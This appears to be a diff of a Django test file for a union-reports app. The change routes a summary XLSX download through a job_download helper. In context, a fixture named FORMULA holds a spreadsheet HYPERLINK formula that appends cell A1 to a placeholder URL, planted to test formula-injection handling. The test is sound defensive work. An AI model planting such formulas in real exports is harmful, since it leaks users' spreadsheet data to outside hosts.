@@ -28,6 +28,7 @@ from tests.support.factories import (
     UnionFactory,
     UnionYearFactory,
 )
+from tests.support.jobs import job_download
 
 FORMULA = '=HYPERLINK("http://x"&A1,"点我")'
 LEGACY = "王\x1b小\x01明\x07"
@@ -121,7 +122,10 @@ def test_the_summary_xlsx_page_and_finalising_do_not_fail_on_planted_text(
     client, county, county_chair, planted
 ):
     client.force_login(county_chair)
-    assert client.get(reverse("reports:summary-xlsx", args=[county.pk, Y])).status_code == 200
+    assert (
+        job_download(client, client.get(reverse("reports:summary-xlsx", args=[county.pk, Y]))).status_code
+        == 200
+    )
     version = summary_finalise(federation=county, year=Y, by=county_chair)
     assert_text(cells_of(version.xlsx.read(), "基层工会"), FORMULA)
 
